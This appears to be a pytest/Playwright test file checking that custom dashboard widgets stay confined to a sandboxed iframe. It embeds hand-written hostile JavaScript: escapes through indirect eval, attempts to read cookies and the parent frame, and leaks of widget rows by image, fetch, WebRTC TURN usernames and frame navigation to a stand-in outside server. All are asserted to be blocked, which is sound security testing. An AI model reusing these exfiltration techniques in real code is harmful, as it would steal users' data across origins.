"""Custom widgets in a real browser: a checked component renders its props inside the sandboxed
frame, and a hostile one (hand-compiled, so no checker rule stops it) reaches nothing.

Widgets are written straight to the database, as in test_pages.py.
"""
from __future__ import annotations

import socket
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import service_missing
from tests.e2e.test_pages import add_widget, open_dashboard
from widgets.models import Dashboard
from widgets.services.tsx import tsx_checker_available, tsx_compile

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

SPEC = {
    "kind": "custom", "title": "Claims by region, as bars",
    "metric": {"key": "claim_count", "name": "Claim count", "unit": "count"},
    "dimensions": ["region"], "filters": [], "time_window": {"kind": "last", "n": 90, "unit": "day"},
    "grain": None, "labels": {"region": "Region"}, "visual": "horizontal bars",
}
RESULT = {"columns": ["region", "claim_count"], "rows": [["Midwest", 4210], ["South", 5342]], "truncated": False}

PROPS_TS = """\
interface Row { region: string | null; value: number | null }
interface Props {
  title: string;
  metric: { key: string; name: string; unit: "count" | "currency" | "days" | "percent" };
  dimensions: { key: string; label: string }[];
  rows: Row[];
  truncated: boolean;
}
"""

BARS_TSX = """\
function Widget(props: Props) {
  const max = Math.max(1, ...props.rows.map((r) => r.value ?? 0));
  return (
    <div style={{ height: 300 }}>
      <p data-testid="metric">{props.metric.name}</p>
      {props.rows.map((r, i) => (
        <div key={i} data-testid="bar" style={{ width: `${((r.value ?? 0) / max) * 100}%` }}>
          {r.region ?? "unknown"}: {r.value}
        </div>
      ))}
    </div>
  );
}
"""

# Written by hand, as if the checker had been bypassed: it escapes the shadowed globals through
# an indirect eval and tries everything a leak needs, writing each outcome into its own DOM.
HOSTILE_JS = """
function Widget(props) {
  const [report, setReport] = React.useState({});
  React.useEffect(() => {
    const g = (0, eval)("this");
    const note = (key, value) => setReport((old) => Object.assign({}, old, { [key]: value }));
    const attempt = (key, fn) => { try { note(key, "read:" + String(fn())); } catch (e) { note(key, "blocked:" + e.name); } };
    g.document.addEventListener("securitypolicyviolation", (e) => note("csp-" + e.effectiveDirective, "blocked"));
    attempt("cookie", () => g.document.cookie);
    attempt("parent", () => g.parent.document.title);
    attempt("storage", () => g.localStorage.length);
    new g.Image().src = "/static/leak-image.png?" + encodeURIComponent(JSON.stringify(props.rows));
    g.fetch("/api/dashboards/?leak=fetch", { credentials: "include" })
      .then((r) => note("fetch", "read:" + r.status), (e) => note("fetch", "blocked:" + e.name));
  }, []);
  return React.createElement("ul", null, Object.keys(report).sort().map((key) =>
    React.createElement("li", { key, "data-testid": "probe-" + key }, report[key])));
}
"""


# Also hand-written: WebRTC sends STUN/TURN packets that no CSP directive covers. The TURN
# server is a UDP socket of the test's; the username carries the rows. Every route to an
# RTCPeerConnection is tried, and what each one gave is written into the component's DOM.
WEBRTC_JS = """
function Widget(props) {
  const [report, setReport] = React.useState({});
  React.useEffect(() => {
    const g = (0, eval)("this");
    const config = { iceServers: [{ urls: "turn:127.0.0.1:TURN_PORT?transport=udp",
      username: JSON.stringify(props.rows), credential: "x" }] };
    const note = (key, value) => setReport((old) => Object.assign({}, old, { [key]: value }));
    const attempt = (key, fn) => { try { note(key, "read:" + String(fn())); } catch (e) { note(key, "blocked:" + e.name); } };
    const leak = (W) => {
      const pc = new W.RTCPeerConnection(config);
      pc.createDataChannel("rows");
      pc.createOffer().then((offer) => pc.setLocalDescription(offer));
      return "sent";
    };
    attempt("type-eval", () => typeof g.RTCPeerConnection);
    attempt("eval", () => leak(g));
    attempt("globalThis", () => leak(globalThis));
    attempt("webkit", () => new g.webkitRTCPeerConnection(config) && "sent");
    attempt("media", () => typeof g.navigator.mediaDevices);
    attempt("iframe", () => {
      const frame = g.document.createElement("iframe");
      g.document.body.appendChild(frame);
      return leak(frame.contentWindow);
    });
    attempt("innerHTML", () => {
      const box = g.document.createElement("div");
      box.innerHTML = "<iframe></iframe>";
      g.document.body.appendChild(box);
      return leak(g[0]);
    });
  }, []);
  return React.createElement("ul", null, Object.keys(report).sort().map((key) =>
    React.createElement("li", { key, "data-testid": "probe-" + key }, report[key])));
}
"""


@pytest.fixture
def udp_listener() -> Iterator[socket.socket]:
    """A UDP socket on 127.0.0.1 standing in for an attacker's TURN server."""
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.bind(("127.0.0.1", 0))
    listener.settimeout(3)
    try:
        yield listener
    finally:
        listener.close()


@pytest.fixture
def outside_server() -> Iterator[tuple[str, list[str]]]:
    """An HTTP server on another origin than the live server; yields its URL and the paths it was asked for."""
    hits: list[str] = []

    class Record(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<p>outside</p>")

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", hits
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture(autouse=True)
def _offline(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BUILDER_MODE", "offline")


@pytest.fixture
def board(django_user_model: Any) -> Dashboard:
    from tests.e2e.test_pages import PASSWORD

    user = django_user_model.objects.create_user(username="erin", password=PASSWORD)
    return Dashboard.objects.create(owner=user, name="Custom widgets")


def custom_card(page: Page) -> Any:
    return page.locator("[data-testid=widget-card][data-kind=custom]")


def test_a_checked_component_renders_its_props_in_the_sandboxed_frame(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    reason = tsx_checker_available()
    if reason:
        service_missing(f"TSX checker unavailable: {reason}")
    add_widget(board, spec=SPEC, result=RESULT, component_js=tsx_compile(tsx=BARS_TSX, props_ts=PROPS_TS).js)
    open_dashboard(browser_page, live_server.url, board)

    frame_element = custom_card(browser_page).get_by_test_id("custom-frame")
    expect(frame_element).to_have_attribute("sandbox", "allow-scripts")
    frame = browser_page.frame_locator("[data-testid=custom-frame]")
    expect(frame.get_by_test_id("metric")).to_have_text("Claim count")
    expect(frame.get_by_test_id("bar")).to_have_text(["Midwest: 4210", "South: 5342"])
    # The frame reported its content's height (a 300 px box, padding and a margin) and was resized.
    expect(frame_element).not_to_have_attribute("height", "80")
    assert 300 <= int(frame_element.get_attribute("height") or 0) <= 340


def test_a_hostile_component_cannot_read_cookies_reach_the_page_or_send_anything(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    requests: list[str] = []
    responses: list[str] = []
    blocked: dict[str, str] = {}
    browser_page.on("request", lambda request: requests.append(request.url))
    browser_page.on("response", lambda response: responses.append(response.url))
    browser_page.on("requestfailed", lambda request: blocked.update({request.url: request.failure or ""}))
    add_widget(board, spec=SPEC, result=RESULT, component_js=HOSTILE_JS)
    open_dashboard(browser_page, live_server.url, board)
    assert "csrftoken=" in browser_page.evaluate("document.cookie")  # there is a cookie to steal

    frame = browser_page.frame_locator("[data-testid=custom-frame]")
    expect(frame.get_by_test_id("probe-cookie")).to_have_text("blocked:SecurityError")
    expect(frame.get_by_test_id("probe-parent")).to_have_text("blocked:SecurityError")
    expect(frame.get_by_test_id("probe-storage")).to_have_text("blocked:SecurityError")
    expect(frame.get_by_test_id("probe-fetch")).to_have_text("blocked:TypeError")
    expect(frame.get_by_test_id("probe-csp-connect-src")).to_have_text("blocked")
    expect(frame.get_by_test_id("probe-csp-img-src")).to_have_text("blocked")
    # The frame's own script loads are seen, so the listeners do see the frame's requests.
    assert any("/static/widgets/sandbox.js" in url for url in responses)
    # Chromium announces the image request, then blocks it before it is sent; fetch never starts.
    leaks = [url for url in requests if "leak" in url]
    assert leaks and all(blocked.get(url) == "csp" for url in leaks), (leaks, blocked)
    assert not [url for url in responses if "leak" in url]
    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)


def test_a_component_that_throws_shows_why_in_its_card(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    js = 'function Widget(props) { throw new Error("no rows for " + props.title); }'
    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
    open_dashboard(browser_page, live_server.url, board)

    card = custom_card(browser_page)
    expect(card.get_by_test_id("custom-error")).to_have_text(
        "The custom component failed: no rows for Claims by region, as bars")
    expect(card.get_by_test_id("custom-frame")).to_have_count(0)


def test_a_component_that_navigates_its_frame_away_is_stopped(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    js = 'function Widget(props) { (0, eval)("this").location.href = "/widgets/sandbox/?moved=1"; return null; }'
    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
    open_dashboard(browser_page, live_server.url, board)

    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_text(
        "The custom component failed: it tried to leave its sandbox and was stopped.")


def test_a_component_cannot_send_its_rows_over_webrtc(
    browser_page: Page, live_server: Any, board: Dashboard, udp_listener: socket.socket
) -> None:
    port = udp_listener.getsockname()[1]
    add_widget(board, spec=SPEC, result=RESULT, component_js=WEBRTC_JS.replace("TURN_PORT", str(port)))
    open_dashboard(browser_page, live_server.url, board)

    frame = browser_page.frame_locator("[data-testid=custom-frame]")
    expect(frame.get_by_test_id("probe-type-eval")).to_have_text("read:undefined")
    expect(frame.get_by_test_id("probe-eval")).to_have_text("blocked:TypeError")
    expect(frame.get_by_test_id("probe-globalThis")).to_have_text("blocked:TypeError")
    expect(frame.get_by_test_id("probe-webkit")).to_have_text("blocked:TypeError")
    expect(frame.get_by_test_id("probe-media")).to_have_text("read:undefined")
    # A new frame would be a new window with its own RTCPeerConnection: none can be made.
    expect(frame.get_by_test_id("probe-iframe")).to_have_text("blocked:TypeError")
    expect(frame.get_by_test_id("probe-innerHTML")).to_have_text("blocked:TypeError")
    with pytest.raises(TimeoutError):
        packet, sender = udp_listener.recvfrom(4096)
        pytest.fail(f"the component sent {len(packet)} bytes over UDP from {sender}")
    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_count(0)


def test_a_component_cannot_navigate_its_frame_to_another_origin(
    browser_page: Page, live_server: Any, board: Dashboard, outside_server: tuple[str, list[str]]
) -> None:
    url, hits = outside_server
    js = f'function Widget(props) {{ (0, eval)("this").location.href = "{url}/leak?" + props.rows.length; return null; }}'
    add_widget(board, spec=SPEC, result=RESULT, component_js=js)
    open_dashboard(browser_page, live_server.url, board)

    # The dashboard's frame-src refuses the navigation; the frame's second load reports it.
    expect(custom_card(browser_page).get_by_test_id("custom-error")).to_have_text(
        "The custom component failed: it tried to leave its sandbox and was stopped.")
    time.sleep(1)  # a request let through would have arrived by now
    assert hits == []


def test_a_ready_custom_widget_whose_rows_do_not_fit_says_why_without_a_retry_button(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    # Ready and live, so the retry API would refuse it: the owner gets the reason, not a dead button.
    misfit = {"columns": ["region", "state", "claim_count"], "rows": [["Midwest", "OH", 4210]], "truncated": False}
    add_widget(board, spec=SPEC, result=misfit, component_js=tsx_free_component())
    open_dashboard(browser_page, live_server.url, board)

    card = custom_card(browser_page)
    expect(card.get_by_test_id("widget-failure")).to_contain_text("The query returned 3 column(s)")
    expect(card.get_by_test_id("widget-retry")).to_have_count(0)


def tsx_free_component() -> str:
    return "function Widget(props) { return React.createElement('p', null, props.title); }"


def test_a_custom_widget_without_a_component_shows_the_failure_view(
    browser_page: Page, live_server: Any, board: Dashboard
) -> None:
    add_widget(board, spec=SPEC, result={}, component_js="", result_at=None, source="llm_unavailable",
               source_reason="The component did not compile.")
    open_dashboard(browser_page, live_server.url, board)

    card = custom_card(browser_page)
    expect(card.get_by_test_id("widget-failure")).to_contain_text("The component did not compile.")
    expect(card.get_by_test_id("custom-frame")).to_have_count(0)
